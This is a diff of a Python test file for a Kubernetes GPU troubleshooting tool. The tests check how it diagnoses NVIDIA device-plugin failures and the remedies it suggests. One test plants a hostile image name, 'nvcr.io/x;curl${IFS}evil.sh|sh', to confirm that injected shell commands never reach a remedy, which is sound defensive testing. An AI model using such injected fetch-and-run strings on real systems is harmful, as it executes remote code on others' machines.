@@ -220,9 +220,18 @@ def test_hami_scheduler_or_webhook_missing() -> None:
 PLUGIN = DaemonSetState("nvidia-device-plugin-daemonset", 2, 2, 2)
 
 
-def plugin_pod(node_name: str, **status: Any) -> dict[str, Any]:
-    return {"metadata": {"name": f"nvidia-device-plugin-daemonset-{node_name}", "namespace": "kube-system"},
-            "spec": {"nodeName": node_name}, "status": {"phase": "Running", **status}}
+def plugin_pod(node_name: str, namespace: str = "kube-system", privileged: bool = False,
+               **status: Any) -> dict[str, Any]:
+    """The plugin DaemonSet's pod on a node, as the API lists it (its template's containers, its owner)."""
+    sc = {"capabilities": {"add": ["SYS_ADMIN"]}} if privileged else {
+        "allowPrivilegeEscalation": False, "capabilities": {"drop": ["ALL"]}}
+    image = "nvcr.io/nvidia/k8s-device-plugin:v0.17.0"
+    return {"metadata": {"name": f"nvidia-device-plugin-daemonset-{node_name}", "namespace": namespace,
+                         "ownerReferences": [{"kind": "DaemonSet", "name": "nvidia-device-plugin-daemonset"}]},
+            "spec": {"nodeName": node_name,
+                     "initContainers": [{"name": "nvidia-device-plugin-init", "image": image}],
+                     "containers": [{"name": "nvidia-device-plugin-ctr", "image": image, "securityContext": sc}]},
+            "status": {"phase": "Running", **status}}
 
 
 def test_a_node_whose_runtime_default_is_not_nvidia() -> None:
@@ -247,7 +256,12 @@ def test_the_legacy_plugin_log_with_nvidia_default_is_no_nvml() -> None:
     [f] = classify.node_causes("gpu-1", ev)
     assert f.id == "gpu.plugin-no-nvml" and "nvidia-container-toolkit" in f.remedy
     assert any("could not load NVML library" in e for e in f.evidence)
-    assert classify.fixable(f, ev) == ""
+    # it loads NVML once, at start: a restart of its pod is the first remedy, and --fix applies it
+    assert "kubectl -n kube-system delete pod nvidia-device-plugin-daemonset-gpu-1" in f.remedy
+    assert classify.fixable(f, ev) == "plugin"
+    # the host not read (no runtime default known): not restarted blindly
+    [f] = classify.node_causes("gpu-1", dataclasses.replace(ev, hosts={}))
+    assert f.id == "gpu.plugin-no-nvml" and classify.fixable(f, ev) == ""
 
 
 def test_a_plugin_that_runs_without_its_socket() -> None:
@@ -290,6 +304,34 @@ def test_missing_label_and_image_pull() -> None:
     assert f.id == "gpu.plugin-image-pull" and not any(e.startswith("event: ") for e in f.evidence)
 
 
+def test_an_init_container_that_cannot_pull_and_hostile_names() -> None:
+    # the real plugin pod fails in its init container (same image): Init:ErrImagePull with the runtime's raw error
+    raw = text("image-pull-failed.txt").strip().split(": ", 1)[1]
+    pulling = plugin_pod("gpu-1", phase="Pending", initContainerStatuses=[{"name": "nvidia-device-plugin-init",
+                         "state": {"waiting": {"reason": "ErrImagePull", "message": raw}}}],
+                         containerStatuses=[{"name": "nvidia-device-plugin-ctr",
+                                             "state": {"waiting": {"reason": "PodInitializing"}}}])
+    ev = ClusterEvidence({"gpu-1": node("gpu-1", 0, {gpuplan.GPU_PRESENT: "true"})}, [pulling],
+                         plans={"gpu-1": plan("gpu-1", 2)}, plugin=PLUGIN)
+    [f] = classify.node_causes("gpu-1", ev)
+    assert f.id == "gpu.plugin-image-pull"
+    assert "image nvcr.io/nvidia/k8s-device-plugin:v0.17.0" in f.message  # from the pod's spec, not the message
+    # an image string that is no image reference never reaches a command in the remedy
+    bad = "nvcr.io/x;curl${IFS}evil.sh|sh"
+    hostile = json.loads(json.dumps(pulling).replace("nvcr.io/nvidia/k8s-device-plugin:v0.17.0", bad))
+    [f] = classify.node_causes("gpu-1", dataclasses.replace(ev, pods=[hostile]))
+    assert f.id == "gpu.plugin-image-pull" and "crictl" not in f.remedy and bad not in f.remedy
+    # a look-alike pod in a user's namespace is not the plugin
+    fake = plugin_pod("gpu-1", namespace="team-a", phase="Pending", initContainerStatuses=[
+        {"name": "nvidia-device-plugin-init", "state": {"waiting": {"reason": "ErrImagePull"}}}])
+    [f] = classify.node_causes("gpu-1", dataclasses.replace(ev, pods=[fake]))
+    assert f.id == "gpu.plugin-not-scheduled"
+    # nor is one in kube-system that no DaemonSet owns a source of remedies
+    orphan = {**pulling, "metadata": {**pulling["metadata"], "ownerReferences": []}}
+    [f] = classify.node_causes("gpu-1", dataclasses.replace(ev, pods=[orphan]))
+    assert f.id == "gpu.plugin-crashing" and "crictl" not in f.remedy
+
+
 def test_the_toolkit_refusing_the_envvar_to_an_unprivileged_plugin() -> None:
     # NVIDIA/k8s-device-plugin#856: accept-nvidia-visible-devices-envvar-when-unprivileged = false, plugin unprivileged
     h = dataclasses.replace(host(default_runtime="nvidia"), envvar_unprivileged=False,
@@ -302,8 +344,13 @@ def test_the_toolkit_refusing_the_envvar_to_an_unprivileged_plugin() -> None:
     assert f.id == "gpu.plugin-no-nvml" and "ignores NVIDIA_VISIBLE_DEVICES" in f.message
     assert f"{evidence.TOOLKIT_CONFIG}: {evidence.ENVVAR_UNPRIVILEGED} = false" in f.evidence
     assert "= true" in f.remedy and "delete pod nvidia-device-plugin-daemonset-gpu-1" in f.remedy
+    assert "plugin pod nvidia-device-plugin-daemonset-gpu-1: unprivileged (no CAP_SYS_ADMIN)" in f.evidence
+    assert classify.fixable(f, ev) == ""  # a restart alone does not help
     # the setting left at its default (unset): the general NVML remedy
     [f] = classify.node_causes("gpu-1", dataclasses.replace(ev, hosts={"gpu-1": host(default_runtime="nvidia")}))
+    assert f.id == "gpu.plugin-no-nvml" and "ignores NVIDIA_VISIBLE_DEVICES" not in f.message
+    # a plugin with CAP_SYS_ADMIN (gpuk8s gives it where MIG is used) is privileged to the toolkit: not this cause
+    [f] = classify.node_causes("gpu-1", dataclasses.replace(ev, pods=[plugin_pod("gpu-1", privileged=True)]))
     assert f.id == "gpu.plugin-no-nvml" and "ignores NVIDIA_VISIBLE_DEVICES" not in f.message
 
 
@@ -420,6 +467,9 @@ def test_the_host_probe_with_doctors_sections() -> None:
         "false" in h.lines()
     h = evidence.parse_host(probe + extra + toolkit.replace("false", "true"), "containerd")
     assert h.envvar_unprivileged is True and not any("envvar" in x for x in h.lines())
+    commented = toolkit.replace("= false", "= false  # hardening").replace("accept-", '"accept-', 1) \
+        .replace("unprivileged =", 'unprivileged" =')
+    assert evidence.parse_host(probe + extra + commented, "containerd").envvar_unprivileged is False
     bare = evidence.parse_host(probe, "containerd")  # an older probe without doctor's sections: unknown, not empty
     assert bare.sockets is None and bare.dev_char_links is None and bare.envvar_unprivileged is None
     bad = evidence.parse_host("sudo: a password is required\n", "containerd")
@@ -467,6 +517,14 @@ def test_after_a_fix_the_diagnosis_is_taken_again_while_a_fixed_node_shows_a_cau
     # a cause on a node the fix did not touch: not waited for
     calls.clear()
     assert settle(bad, again, {"gpu-2"}, timeout=5, every=0.01) is bad and calls == []
+    # a pod's cause on a fixed node (the pod keeps its sandbox's runtime until it is made again): not waited for
+    p = pod("smi", {"nvidia.com/gpu": "1"}, on="gpu-1", phase="Failed")
+    p["status"]["containerStatuses"] = [{"name": "c", "state": {"terminated": {
+        "reason": "StartError", "message": 'exec: "nvidia-smi": executable file not found in $PATH'}}}]
+    pev = dataclasses.replace(sick, pods=[p], hosts={"gpu-1": host(default_runtime="runc")})
+    podbad = Diagnosis(pev, [("ml", "smi")], [], classify.pod_causes(p, pev))
+    assert [f.id for f in podbad.findings] == ["pod.no-nvidia-runtime"]
+    assert settle(podbad, again, {"gpu-1"}, timeout=5, every=0.01) is podbad
     # never better: the last diagnosis when the time is up
     calls.clear()
     assert settle(bad, lambda: (calls.append(1), bad)[1], {"gpu-1"}, timeout=0.05, every=0.01) is bad
